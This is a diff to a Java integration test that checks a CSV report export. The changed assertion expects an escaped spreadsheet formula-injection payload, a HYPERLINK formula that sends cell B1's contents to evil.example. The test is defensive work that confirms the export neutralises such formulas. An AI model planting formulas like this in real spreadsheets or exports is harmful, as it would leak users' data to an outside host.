@@ -115,7 +115,7 @@ class ReportsIT {
                 .extract()
                 .asString();
 
-        assertThat(file).contains(team + ",\"'=HYPERLINK(\"\"https://evil.example/\"\"&B1)\",1,");
+        assertThat(file).contains(team + "\",\"'=HYPERLINK(\"\"https://evil.example/\"\"&B1)\",1,");
     }
 
     @Test
